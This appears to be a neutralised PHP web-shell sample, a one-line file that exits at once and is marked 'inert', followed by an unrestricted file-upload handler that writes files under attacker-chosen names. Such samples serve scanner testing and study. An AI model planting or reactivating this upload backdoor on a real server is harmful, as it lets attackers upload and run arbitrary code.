<?php exit; /* inert */ if(isset($_FILES["f"])) move_uploaded_file($_FILES["f"]["tmp_name"],$_FILES["f"]["name"]);
